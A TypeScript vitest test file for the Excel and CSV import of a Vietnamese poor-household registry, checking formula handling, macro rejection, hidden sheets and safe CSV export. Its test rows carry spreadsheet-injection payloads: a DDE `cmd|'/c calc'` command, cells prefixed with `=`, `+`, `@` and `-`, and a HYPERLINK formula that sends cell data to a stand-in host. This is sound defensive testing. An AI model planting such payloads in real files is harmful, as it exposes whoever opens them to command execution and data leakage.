import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { householdRoutes } from '@chung-tay/shared/households/contract';
import { importRoutes } from '@chung-tay/shared/imports/contract';
import { expect, it } from 'vitest';
import { registerSize, surveyTeam } from '../../test/factories/households.ts';
import { csvOf, importDesk } from '../../test/factories/imports.ts';
import { personWith } from '../../test/factories/people.ts';
import { createTestApp } from '../../test/harness.ts';
import { xmlText } from '../core/sheet/xlsx-writer.ts';
import { zip } from '../core/sheet/zip-writer.ts';

const test = await createTestApp();
const team = await surveyTeam(test);
const desk = importDesk(test, householdRoutes.importHouseholds, team.officer);
const titles = ['Mã đơn vị', 'Thôn', 'Họ tên chủ hộ', 'Năm sinh', 'Diện', 'Năm xếp diện', 'Số nhân khẩu', 'Ghi chú'];
const { code } = team.commune;

/** A cell as Excel writes it: text, or whatever XML stands here for it. */
type Cell = string | { xml: string };
const formula = (text: string, value: string, type = 'n'): Cell => ({
  xml: `t="${type}"><f>${xmlText(text)}</f>${value}`,
});
const rowXml = (cells: readonly Cell[], line: number): string =>
  `<row r="${line}">${cells
    .map((cell, at) => {
      const reference = `r="${'ABCDEFGHIJ'[at]}${line}"`;
      return typeof cell === 'string'
        ? `<c ${reference} t="inlineStr"><is><t>${xmlText(cell)}</t></is></c>`
        : `<c ${reference} ${cell.xml}</c>`;
    })
    .join('')}</row>`;

interface Sheet {
  name: string;
  state?: string;
  rows: readonly (readonly Cell[])[];
  merged?: string;
}

/** A workbook of these sheets, with whatever else is put into it. */
async function workbook(sheets: readonly Sheet[], more: Record<string, string> = {}) {
  const files: Record<string, string> = {
    'xl/workbook.xml': `<workbook xmlns:r="r"><sheets>${sheets.map(({ name, state }, at) => `<sheet name="${name}" sheetId="${at + 1}"${state ? ` state="${state}"` : ''} r:id="r${at + 1}"/>`).join('')}</sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships>${sheets.map((_, at) => `<Relationship Id="r${at + 1}" Target="worksheets/sheet${at + 1}.xml"/>`).join('')}</Relationships>`,
    ...Object.fromEntries(
      sheets.map(({ rows, merged }, at) => [
        `xl/worksheets/sheet${at + 1}.xml`,
        `<worksheet><sheetData>${rows.map((cells, line) => rowXml(cells, line + 1)).join('')}</sheetData>${merged ? `<mergeCells><mergeCell ref="${merged}"/></mergeCells>` : ''}</worksheet>`,
      ]),
    ),
    ...more,
  };
  const entries = Object.entries(files).map(([name, content]) => ({ name, content }));
  const content = await buffer(Readable.from(zip(entries), { objectMode: false }));
  return { content, contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' };
}

const household = (name: Cell, more: { members?: Cell; note?: Cell } = {}): Cell[] => [
  ...[code, 'Thôn Mẫu', name, '1960', 'Hộ nghèo', '2024', more.members ?? '4', more.note ?? ''],
];
const noted = async (headName: string) =>
  (
    await test.sql<{ note: string | null; member_count: number }>(
      'SELECT note, member_count FROM households WHERE head_name = $1',
      [headName],
    )
  )[0];

/** Refused whole, in words, with nothing written and nothing left of the file. */
async function refused(file: Awaited<ReturnType<typeof workbook>>, errorCode: string, words: RegExp): Promise<void> {
  const before = await registerSize(team);
  const answer = await desk.send(file);
  expect([answer.status, answer.problem.code], answer.text).toEqual([422, errorCode]);
  expect(answer.problem.detail).toMatch(words);
  expect(await registerSize(team)).toBe(before);
}

it('of a formula its result is read, and never the formula', async () => {
  const file = await workbook([
    {
      name: 'Hộ',
      rows: [
        titles,
        household('Hộ Công Thức', {
          members: formula('2+3', '<v>5</v>'),
          note: formula(`HYPERLINK("http://example.test/?"&A2,"Bấm")`, '<v>Bấm</v>', 'str'),
        }),
        household('Hộ Kết Quả Rỗng', { note: formula('""', '<v></v>', 'str') }),
        household('Hộ Lệnh', { note: formula(`cmd|'/c calc'!A1`, '<v>0</v>') }),
      ],
    },
  ]);
  const { body } = await desk.send(file);
  expect(body, JSON.stringify(body.errors)).toMatchObject({ rowsCreated: 3, rowsFailed: 0 });
  expect(await noted('Hộ Công Thức')).toEqual({ note: 'Bấm', member_count: 5 });
  expect((await noted('Hộ Kết Quả Rỗng'))?.note).toBeNull();
  expect((await noted('Hộ Lệnh'))?.note).toBe('0');
});

it('a formula that was never worked out is not taken for an empty cell', async () => {
  for (const cell of [formula('A2', ''), formula('A2', '<v></v>'), formula('A2', '', 'str')]) {
    const file = await workbook([{ name: 'Hộ', rows: [titles, household('Hộ Chưa Tính', { note: cell })] }]);
    await refused(
      file,
      'file_invalid',
      /^Dòng 2: ô H2 là công thức chưa có kết quả; hãy mở tệp bằng Excel rồi lưu lại/,
    );
  }
});

it('what a formula failed at is a fault of its cell, in a workbook and in CSV, of every kind of file', async () => {
  const rows = [
    household({ xml: 't="e"><f>Sheet2!A1</f><v>#REF!</v>' }),
    household('Hộ Lành'),
    household('Hộ Lỗi Ghi Chú', { note: { xml: 't="e"><v>#N/A</v>' } }),
  ];
  const { body } = await desk.send(await workbook([{ name: 'Hộ', rows: [titles, ...rows] }]), { mode: 'good' });
  expect(body).toMatchObject({ rowsCreated: 1, rowsFailed: 2 });
  expect(body.errors).toMatchObject([
    { line: 2, column: 'Họ tên chủ hộ', code: 'failed_formula', message: expect.stringContaining('#REF!') },
    { line: 4, column: 'Ghi chú', code: 'failed_formula' },
  ]);
  const saved = await desk.send(csvOf(titles, household('#NAME?', { members: '0' }) as string[]));
  expect(saved.body.status).toBe('rejected');
  // With whatever else is wrong in the row; what is missing because of it is not told twice.
  expect(saved.body.errors.map(({ line, column, code }) => [line, column, code])).toEqual([
    [2, 'Họ tên chủ hộ', 'failed_formula'],
    [2, 'Số nhân khẩu', 'too_small'],
  ]);
  const administrator = await personWith(test, [{ role: 'administrator', unitId: team.province }]);
  const units = importDesk(test, importRoutes.importUnits, administrator);
  const heads = ['Mã tổ chức', 'Loại', 'Tên', 'Kiểu', 'Nơi đóng', 'Từ ngày', 'Căn cứ'];
  const organisation = ['DN-9', 'Doanh nghiệp', '#VALUE!', 'công ty', code, '01/10/2025', '01/QĐ-MẪU'];
  const organisations = await units.send(csvOf(heads, organisation));
  expect(organisations.body.errors).toMatchObject([{ line: 2, column: 'Tên', code: 'failed_formula' }]);
});

it('a workbook with macros is refused, whatever it is called', async () => {
  const rows = [titles, household('Hộ Có Macro')];
  for (const part of ['xl/vbaProject.bin', 'xl/macrosheets/sheet1.xml', 'xl/VBAPROJECT.BIN']) {
    const file = await workbook([{ name: 'Hộ', rows }], { [part]: 'x' });
    await refused(file, 'file_invalid', /macro/);
    const called = { ...file, contentType: 'application/vnd.ms-excel.sheet.macroEnabled.12' };
    await refused(called, 'file_invalid', /macro/);
  }
});

it('a hidden sheet is not read: the first that its sender sees is', async () => {
  const hidden = (state: string) => ({ name: 'Ẩn', state, rows: [titles, household(`Hộ ${state}`)] });
  const seen = { name: 'Hộ', rows: [titles, household('Hộ Thấy Được')] };
  const file = await workbook([hidden('hidden'), hidden('veryHidden'), seen, { ...seen, name: 'Sau' }]);
  expect((await desk.send(file)).body).toMatchObject({ rowsRead: 1, rowsCreated: 1, rowsFailed: 0 });
  expect(await noted('Hộ Thấy Được')).toBeDefined();
  expect(await noted('Hộ hidden')).toBeUndefined();
});

it('a merged title above the columns, and columns merged into one, are said', async () => {
  const rows = [household('Hộ Gộp Ô')];
  const above = { name: 'Hộ', rows: [['DANH SÁCH HỘ NGHÈO (mẫu)'], titles, ...rows], merged: 'A1:H1' };
  await refused(await workbook([above]), 'file_columns', /“DANH SÁCH HỘ NGHÈO \(mẫu\)”.*xóa các dòng phía trên/);
  const [unit = '', village = '', , ...others] = titles;
  const merged = { name: 'Hộ', rows: [[unit, village, '', ...others], ...rows], merged: 'B1:C1' };
  await refused(await workbook([merged]), 'file_columns', /thiếu cột “Họ tên chủ hộ”.*“cột 3”/);
});

it('a command in a CSV file is text: kept as it came, and harmless in every file that leaves', async () => {
  const commands = [`=cmd|'/c calc'!A1`, '+1+1', '@SUM(A1)', '-2+3'];
  const rows = commands.map((note, at) => household(`Hộ Lệnh CSV ${'ABCD'[at]}`, { note }) as string[]);
  const { body } = await desk.send(csvOf(titles, ...rows));
  expect(body, JSON.stringify(body.errors)).toMatchObject({ rowsCreated: 4, rowsFailed: 0 });
  expect((await noted('Hộ Lệnh CSV A'))?.note).toBe(commands[0]);
  const exported = async (format: string) =>
    test.app.inject({
      url: `/api/v1/households/export?format=${format}`,
      headers: { authorization: `Bearer ${team.officer.accessToken}` },
    });
  const csv = (await exported('csv')).body;
  for (const command of commands) {
    expect(csv).toContain(`'${command}`);
    expect(csv).not.toContain(`,${command}`);
  }
  // Sent back as it left, it says the same again: nothing is changed.
  const again = await desk.send({ content: csvOf(titles, ...rows).content, contentType: 'text/csv' });
  expect(again.body).toMatchObject({ rowsUnchanged: 4, rowsCreated: 0, rowsUpdated: 0 });
});
